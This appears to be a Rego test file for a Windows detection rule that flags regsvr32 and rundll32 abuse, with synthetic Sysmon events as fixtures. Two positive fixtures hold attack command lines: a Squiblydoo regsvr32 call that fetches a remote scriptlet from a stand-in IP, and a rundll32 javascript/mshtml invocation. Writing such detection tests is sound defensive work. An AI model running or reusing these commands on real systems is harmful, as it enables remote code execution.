package vigil.detections.windows.rundll32_regsvr32_lolbin_test

import data.vigil.detections.windows.rundll32_regsvr32_lolbin as det

# true positive: Squiblydoo
test_fires_squiblydoo if {
	count(det.finding) == 1 with input as {
		"@timestamp": "2024-05-01T10:00:00Z",
		"event": {
			"dataset": "windows.sysmon",
			"module": "windows",
			"action": "process-created",
			"code": "1"
		},
		"host": {
			"name": "ws-17"
		},
		"user": {
			"name": "eve"
		},
		"winlog": {
			"event_id": 1,
			"channel": "Microsoft-Windows-Sysmon/Operational",
			"event_data": {
				"Image": "C:\\Windows\\System32\\regsvr32.exe",
				"CommandLine": "regsvr32 /s /n /u /i:http://192.0.2.66/a.sct scrobj.dll"
			}
		},
		"process": {
			"name": "regsvr32.exe",
			"executable": "C:\\Windows\\System32\\regsvr32.exe",
			"command_line": "regsvr32 /s /n /u /i:http://192.0.2.66/a.sct scrobj.dll"
		}
	}
}

# true positive: rundll32 javascript
test_fires_rundll32_javascript if {
	count(det.finding) == 1 with input as {
		"@timestamp": "2024-05-01T10:00:00Z",
		"event": {
			"dataset": "windows.sysmon",
			"module": "windows",
			"action": "process-created",
			"code": "1"
		},
		"host": {
			"name": "ws-17"
		},
		"user": {
			"name": "eve"
		},
		"winlog": {
			"event_id": 1,
			"channel": "Microsoft-Windows-Sysmon/Operational",
			"event_data": {
				"Image": "C:\\Windows\\System32\\rundll32.exe",
				"CommandLine": "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";alert('x')"
			}
		},
		"process": {
			"name": "rundll32.exe",
			"executable": "C:\\Windows\\System32\\rundll32.exe",
			"command_line": "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";alert('x')"
		}
	}
}

# true negative: regsvr32 local dll
test_quiet_regsvr32_local_dll if {
	count(det.finding) == 0 with input as {
		"@timestamp": "2024-05-01T10:00:00Z",
		"event": {
			"dataset": "windows.sysmon",
			"module": "windows",
			"action": "process-created",
			"code": "1"
		},
		"host": {
			"name": "ws-17"
		},
		"user": {
			"name": "eve"
		},
		"winlog": {
			"event_id": 1,
			"channel": "Microsoft-Windows-Sysmon/Operational",
			"event_data": {
				"Image": "C:\\Windows\\System32\\regsvr32.exe",
				"CommandLine": "regsvr32 /s C:\\Program Files\\Acme\\acme.dll"
			}
		},
		"process": {
			"name": "regsvr32.exe",
			"executable": "C:\\Windows\\System32\\regsvr32.exe",
			"command_line": "regsvr32 /s C:\\Program Files\\Acme\\acme.dll"
		}
	}
}

# true negative: rundll32 control panel
test_quiet_rundll32_control_panel if {
	count(det.finding) == 0 with input as {
		"@timestamp": "2024-05-01T10:00:00Z",
		"event": {
			"dataset": "windows.sysmon",
			"module": "windows",
			"action": "process-created",
			"code": "1"
		},
		"host": {
			"name": "ws-17"
		},
		"user": {
			"name": "eve"
		},
		"winlog": {
			"event_id": 1,
			"channel": "Microsoft-Windows-Sysmon/Operational",
			"event_data": {
				"Image": "C:\\Windows\\System32\\rundll32.exe",
				"CommandLine": "rundll32.exe shell32.dll,Control_RunDLL desk.cpl"
			}
		},
		"process": {
			"name": "rundll32.exe",
			"executable": "C:\\Windows\\System32\\rundll32.exe",
			"command_line": "rundll32.exe shell32.dll,Control_RunDLL desk.cpl"
		}
	}
}
